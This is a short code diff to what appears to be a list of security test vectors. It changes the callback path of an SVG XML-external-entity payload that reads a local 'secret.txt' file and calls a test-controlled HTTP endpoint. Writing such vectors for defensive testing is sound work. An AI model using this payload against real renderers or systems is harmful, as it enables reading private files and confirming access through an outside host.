@@ -179,7 +179,7 @@ export const inDrawings: readonly Vector[] = [
   {
     name: "entity in a drawing",
     html: (to) =>
-      `<img src="${asData("image/svg+xml", `<!DOCTYPE svg [<!ENTITY secret SYSTEM "file://${to.folder}/secret.txt"><!ENTITY out SYSTEM "${to.http}/asked">]>${inSvg("<text y='20'>&secret;&out;</text>")}`)}">`,
+      `<img src="${asData("image/svg+xml", `<!DOCTYPE svg [<!ENTITY secret SYSTEM "file://${to.folder}/secret.txt"><!ENTITY out SYSTEM "${to.http}/probe">]>${inSvg("<text y='20'>&secret;&out;</text>")}`)}">`,
   },
   {
     name: "formula that links",
